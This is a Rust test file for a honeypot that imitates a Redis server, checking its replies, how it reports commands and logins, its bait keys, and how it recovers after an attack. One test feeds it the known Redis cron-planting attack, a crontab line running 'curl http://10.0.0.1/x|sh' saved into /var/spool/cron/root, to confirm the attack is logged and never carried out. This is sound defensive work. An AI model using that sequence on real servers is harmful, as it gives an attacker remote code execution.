//! Whole connections: what clients get, what is reported of them, and what they may use up.

mod bounds;
mod nonsense;
mod tables;

use std::net::SocketAddr;

use super::*;
use crate::logic::decky::{Identity, Secret};
use crate::logic::event::{Kind, Outcome, Raw};
use crate::logic::persona;
use crate::logic::services::corpus::read;
use crate::logic::services::{Report, State};
use crate::logic::time::Timestamp;

/// 2026-11-23T08:00:00Z.
const NOW: Timestamp = Timestamp(1_795_420_800_000_000_000);

/// A decky with its Redis.
struct Bench {
    decky: Identity,
    state: State,
    settings: Settings,
    now: Timestamp,
}

/// What became of a connection.
#[derive(Debug, Default)]
struct Seen {
    bytes: Vec<u8>,
    reports: Vec<Report>,
    closed: bool,
    /// Most bytes that one call answered with.
    burst: usize,
    /// Most bytes that were held.
    held: usize,
}

impl Seen {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.bytes).into_owned()
    }

    fn of(&self, kind: Kind) -> Vec<&Report> {
        self.reports.iter().filter(|report| report.kind == kind).collect()
    }

    fn commands(&self) -> Vec<&str> {
        let commands = self.of(Kind::CmdInput).into_iter();
        commands.filter_map(|report| report.data.text("command")).collect()
    }

    fn attempts(&self) -> Vec<(String, String, Option<Outcome>)> {
        let attempts = self.of(Kind::AuthAttempt).into_iter();
        attempts
            .map(|report| {
                let creds = report.creds.clone().unwrap();
                (creds.user.unwrap(), creds.password.unwrap(), report.outcome)
            })
            .collect()
    }
}

impl Bench {
    fn new(persona: &str, secret: u8, toml: &str) -> Self {
        let persona = persona::find(persona).unwrap();
        let name = "files-01".parse().unwrap();
        let mac = persona.mac([0, 1, 2, 3]);
        let decky = Identity {
            hostname: persona::hostname(persona, &name, mac),
            name,
            persona,
            mac,
            ip: [192, 168, 1, 110].into(),
            ip6: None,
            secret: Secret([secret; 32]),
            booted: Timestamp(NOW.0 - 86_400_000_000_000),
        };
        let settings = toml::from_str(toml).unwrap();
        Self { decky, state: State::default(), settings, now: NOW }
    }

    fn debian() -> Self {
        Self::new("debian-12", 7, "")
    }

    /// Plays a connection: pieces, then the end if `ended`.
    fn play<P: AsRef<[u8]>>(&mut self, pieces: impl IntoIterator<Item = P>, ended: bool) -> Seen {
        let mut session = Session::new(&self.settings);
        let mut seen = Seen::default();
        let mut call = |act: &mut dyn FnMut(&mut Session, &mut Context<'_>, &mut Reply)| {
            let mut reply = Reply::default();
            let random = &mut |buffer: &mut [u8]| buffer.fill(4);
            let mut context = Context {
                now: self.now,
                decky: &self.decky,
                state: &mut self.state,
                random,
                local: SocketAddr::from(([192, 168, 1, 110], 6379)),
                peer: SocketAddr::from(([192, 168, 1, 7], 40000)),
            };
            act(&mut session, &mut context, &mut reply);
            let words = session.request.words.held();
            seen.held = seen.held.max(session.buffer.len() + words);
            seen.burst = seen.burst.max(reply.bytes.len());
            seen.bytes.append(&mut reply.bytes);
            seen.reports.append(&mut reply.reports);
            seen.closed |= reply.close;
            reply.wait.is_some() && !reply.close
        };
        call(&mut |session, context, reply| session.open(context, reply));
        for piece in pieces {
            let mut waits = call(&mut |session, context, reply| {
                session.receive(piece.as_ref(), context, reply);
            });
            while waits {
                waits = call(&mut |session, context, reply| session.wake(context, reply));
            }
        }
        if ended {
            call(&mut |session, context, reply| session.end(context, reply));
        }
        seen
    }

    /// Types lines.
    fn say(&mut self, lines: &str) -> Seen {
        self.play([lines.replace('\n', "\r\n")], true)
    }
}

/// A command as clients send it.
fn command<W: AsRef<[u8]>>(words: &[W]) -> Vec<u8> {
    let mut bytes = format!("*{}\r\n", words.len()).into_bytes();
    for word in words {
        bytes.extend(format!("${}\r\n", word.as_ref().len()).into_bytes());
        bytes.extend_from_slice(word.as_ref());
        bytes.extend_from_slice(b"\r\n");
    }
    bytes
}

/// An answer without what is another each time.
fn plain(answer: &[u8]) -> String {
    let text = String::from_utf8_lossy(answer).into_owned();
    let mut plain = String::new();
    let mut rest = text.as_str();
    while let Some((before, behind)) = rest.split_once("\nid\r\n:") {
        plain.push_str(before);
        plain.push_str("\nid\r\n:@id");
        rest = behind.trim_start_matches(|c: char| c.is_ascii_digit());
    }
    plain.push_str(rest);
    match (plain.find("+1795420800."), plain.find("] \"")) {
        (Some(from), Some(to)) => format!("{}+@monitor{}", &plain[..from], &plain[to + 1..]),
        _ => plain,
    }
}

#[test]
fn redis_is_answered_for_as_it_answers() {
    let mut wrong = Vec::new();
    let probes = read(include_str!("../../../../tests-golden/redis/redis.txt"));
    assert!(probes.len() > 280, "{}", probes.len());
    for probe in probes {
        let mut bench = Bench::debian();
        bench.say("FLUSHALL\nCONFIG SET dir /tmp\nCONFIG SET dbfilename dump.rdb\n");
        let seen = bench.play(&probe.pieces, probe.half);
        let got = plain(&seen.bytes);
        let closed = seen.closed || probe.half;
        if got != probe.answer || closed != probe.closed {
            wrong.push(format!("{}: {got:?}\n  wanted {:?}", probe.name, probe.answer));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_command_is_reported_as_one_would_type_it() {
    let mut bench = Bench::debian();
    let seen = bench.play(
        [
            command(&["set", "a b", "x\"y\n"]),
            b"GET  foo\r\n\r\n".to_vec(),
            b"nonsense\r\n".to_vec(),
        ],
        true,
    );
    assert_eq!(seen.commands(), ["set \"a b\" \"x\\\"y\\n\"", "GET foo", "nonsense"]);
    assert!(seen.reports.iter().all(|report| report.raw.is_none()));
    let payload = [b"\x7fELF".as_slice(), &[0xcc; 400]].concat();
    let seen = bench.play([command(&[b"SET".as_slice(), b"m", &payload])], true);
    assert_eq!(seen.reports[0].raw, Some(Raw::of(&payload)));
    assert_eq!(seen.reports[0].data.number("bytes"), Some(408));
    assert_eq!(bench.say("GET m\n").bytes, [b"$404\r\n".as_slice(), &payload, b"\r\n"].concat());
}

#[test]
fn a_flood_of_one_command_is_reported_with_its_count() {
    let mut bench = Bench::debian();
    let seen = bench.say(&format!("{}GET x\n", "PING\n".repeat(1000)));
    assert_eq!(seen.text().matches("+PONG\r\n").count(), 1000);
    let pings = seen.commands().iter().filter(|command| **command == "PING").count();
    assert_eq!(pings, 9);
    assert_eq!(seen.reports[8].data.number("repeated"), Some(992));
    assert_eq!(seen.commands().last(), Some(&"GET x"));
}

#[test]
fn a_login_is_reported_with_how_it_ended() {
    let tried = |toml: &str, line: &str| Bench::new("debian-12", 7, toml).say(line).attempts();
    let one = |user: &str, password: &str, outcome| {
        vec![(user.to_owned(), password.to_owned(), Some(outcome))]
    };
    let locked = "password = \"s3cret\"";
    for (toml, line, wanted) in [
        ("", "AUTH foo\n", one("default", "foo", Outcome::Failure)),
        ("", "AUTH default x\n", one("default", "x", Outcome::Success)),
        ("", "AUTH admin x\n", one("admin", "x", Outcome::Failure)),
        ("", "HELLO 3 AUTH admin x\n", one("admin", "x", Outcome::Failure)),
        (locked, "AUTH foo\n", one("default", "foo", Outcome::Failure)),
        (locked, "AUTH s3cret\n", one("default", "s3cret", Outcome::Success)),
        (locked, "PING\n", vec![]),
    ] {
        assert_eq!(tried(toml, line), wanted, "{line}");
    }
}

#[test]
fn who_has_not_logged_in_may_do_nothing() {
    let mut bench = Bench::new("debian-12", 7, "password = \"s3cret\"");
    let seen = bench.say("PING\nHELLO 3\nAUTH no\nAUTH s3cret\nPING\n");
    let firsts: Vec<_> =
        seen.text().lines().map(|line| line.chars().take(5).collect::<String>()).collect();
    assert_eq!(firsts, ["-NOAU", "-NOAU", "-WRON", "+OK", "+PONG"]);
    let seen = bench.play(["*11\r\n"], false);
    assert_eq!(seen.text(), "-ERR Protocol error: unauthenticated multibulk length\r\n");
    let seen = bench.play(["*1\r\n$20000\r\n"], false);
    assert_eq!(seen.text(), "-ERR Protocol error: unauthenticated bulk length\r\n");
    assert!(seen.closed);
}

#[test]
fn a_planted_file_is_reported_with_its_content_and_never_written() {
    let mut bench = Bench::debian();
    let cron = "\\n\\n* * * * * root curl http://10.0.0.1/x|sh\\n\\n";
    let seen = bench.say(&format!(
        "SET x \"{cron}\"\nSAVE\nCONFIG SET dir /var/spool/cron/\nCONFIG SET dbfilename root\nSAVE\nBGSAVE\n"
    ));
    let uploads = seen.of(Kind::FileUpload);
    assert_eq!(uploads.len(), 2);
    assert_eq!(uploads[0].data.text("name"), Some("/var/spool/cron/root"));
    let raw = uploads[0].raw.as_ref().unwrap();
    use base64::Engine as _;
    let file = base64::engine::general_purpose::STANDARD.decode(&raw.b64).unwrap();
    assert!(file.starts_with(b"REDIS0010\xfa\x09redis-ver\x067.0.15"));
    let line = b"* * * * * root curl http://10.0.0.1/x|sh\n";
    assert!(memchr::memmem::find(&file, line).is_some());
    assert!(seen.text().ends_with("+OK\r\n+Background saving started\r\n"));
}

#[test]
fn a_master_is_written_down_and_never_called() {
    let mut bench = Bench::debian();
    let seen = bench.say("SLAVEOF 10.0.0.1 6379\nROLE\nSET a b\nGET a\nINFO replication\n");
    let text = seen.text();
    assert!(text.starts_with("+OK\r\n*5\r\n$5\r\nslave\r\n$8\r\n10.0.0.1\r\n:6379\r\n"));
    assert!(text.contains("-READONLY You can't write against a read only replica.\r\n$-1\r\n"));
    assert!(text.contains("\r\nmaster_host:10.0.0.1\r\nmaster_port:6379\r\n"));
    assert!(text.contains("master_link_status:down"));
    assert!(bench.say("SLAVEOF NO ONE\nSET a b\n").text().ends_with("+OK\r\n+OK\r\n"));
}

#[test]
fn the_bait_is_the_same_at_every_visit_and_another_on_every_decky() {
    let all = |secret| {
        let mut bench = Bench::new("debian-12", secret, "");
        (bench.say("KEYS *\n").text(), bench.say("KEYS *\n").text())
    };
    let (first, second) = all(7);
    assert_eq!(first, second);
    for word in ["user:1", "session:", "api:token:deploy", ":config"] {
        assert!(first.contains(word), "{first}");
    }
    let mut others: Vec<_> = (0..32).map(|secret| all(secret).0).collect();
    others.sort();
    others.dedup();
    assert_eq!(others.len(), 32);
}

#[test]
fn what_visitors_destroyed_is_back_after_hours() {
    let mut bench = Bench::debian();
    let before = bench.say("DBSIZE\n").text();
    assert_eq!(bench.say("FLUSHALL\nSLAVEOF a 1\nDBSIZE\n").text(), "+OK\r\n+OK\r\n:0\r\n");
    bench.now = bench.now.plus(Duration::from_secs(5 * 3600));
    assert_eq!(bench.say("DBSIZE\n").text(), ":0\r\n");
    bench.now = bench.now.plus(Duration::from_secs(2 * 3600));
    assert_eq!(bench.say("DBSIZE\n").text(), before);
    assert!(bench.say("ROLE\n").text().contains("master"));
}

#[test]
fn a_key_goes_when_its_time_has_come() {
    let mut bench = Bench::debian();
    bench.say("FLUSHALL\nSET a 1 PX 1500\nSET b 1 EX 100\n");
    bench.now = bench.now.plus(Duration::from_millis(1499));
    assert_eq!(bench.say("PTTL a\nGET a\n").text(), ":1\r\n$1\r\n1\r\n");
    bench.now = bench.now.plus(Duration::from_millis(1));
    assert_eq!(
        bench.say("GET a\nTTL a\nDBSIZE\nKEYS *\n").text(),
        "$-1\r\n:-2\r\n:1\r\n*1\r\n$1\r\nb\r\n"
    );
}

#[test]
fn what_is_cut_short_is_reported() {
    let mut bench = Bench::debian();
    for (bytes, command) in [("*2\r\n$3\r\nGET\r\n$5\r\nab", Some("GET ab")), ("GET fo", None)] {
        let seen = bench.play([bytes], true);
        assert_eq!(seen.bytes, b"");
        let [report] = seen.reports.as_slice() else { panic!("{:?}", seen.reports) };
        assert_eq!(report.data.text("malformed"), Some("cut short"));
        assert_eq!(report.data.text("command"), command);
    }
    assert!(bench.play(["\r\n \n"], true).reports.is_empty());
}

#[test]
fn an_older_version_speaks_as_it_did() {
    let mut bench = Bench::new("windows-10", 7, "");
    let seen =
        bench.say("foo bar\nHELLO 3\nAUTH x\nACL LIST\nEVAL x 0\nINFO server\nCOMMAND COUNT\n");
    let text = seen.text();
    for line in [
        "-ERR unknown command `foo`, with args beginning with: `bar`, \r\n",
        "-ERR unknown command `HELLO`, with args beginning with: `3`, \r\n",
        "-ERR Client sent AUTH, but no password is set\r\n",
        "-ERR unknown command `EVAL`",
        "redis_version:5.0.14.1\r\n",
        "os:Windows  \r\n",
    ] {
        assert!(text.contains(line), "{line} in {text}");
    }
    let mut bench = Bench::new("debian-12", 7, "version = \"6.2.7\"");
    assert!(bench.say("INFO\n").text().contains("redis_version:6.2.7"));
}

#[test]
fn info_agrees_with_the_persona_and_the_keys() {
    for (id, system) in [
        ("debian-12", "os:Linux 6.1.0-37-amd64 x86_64"),
        ("ubuntu-24.04", "os:Linux 6.8.0-60-generic x86_64"),
        ("freebsd-14", "os:FreeBSD 14.1-RELEASE-p6 amd64"),
    ] {
        let mut bench = Bench::new(id, 7, "");
        let text = bench.say("FLUSHALL\nSET a 1\nSET b 1 EX 10\nINFO\n").text();
        assert!(text.contains(&format!("\r\n{system}\r\n")), "{text}");
        assert!(text.contains("\r\nuptime_in_days:0\r\n"));
        assert!(
            text.contains("\r\n# Keyspace\r\ndb0:keys=2,expires=1,avg_ttl=10000\r\n"),
            "{text}"
        );
        assert!(!text.contains('@'), "{text}");
        let (head, body) = text.split_once("\r\n# Server").unwrap();
        let length: usize = head.rsplit('$').next().unwrap().parse().unwrap();
        assert_eq!(body.len() + "# Server".len() - 2, length);
    }
}

#[test]
fn wrong_settings_are_refused_with_what_they_take() {
    for (toml, said) in [
        ("pasword = \"x\"", "unknown field `pasword`"),
        ("version = \"seven\"", "is no version"),
        ("version = \"7\"", "is no version"),
        ("version = \"7.0\\r\\n\"", "is no version"),
    ] {
        let error = toml::from_str::<Settings>(toml).unwrap_err().to_string();
        assert!(error.contains(said), "{error}");
    }
    let settings: Settings = toml::from_str("password = \"a\"\nversion = \"6.2.7\"").unwrap();
    let wire = postcard::to_allocvec(&settings).unwrap();
    assert_eq!(postcard::from_bytes::<Settings>(&wire).unwrap(), settings);
}
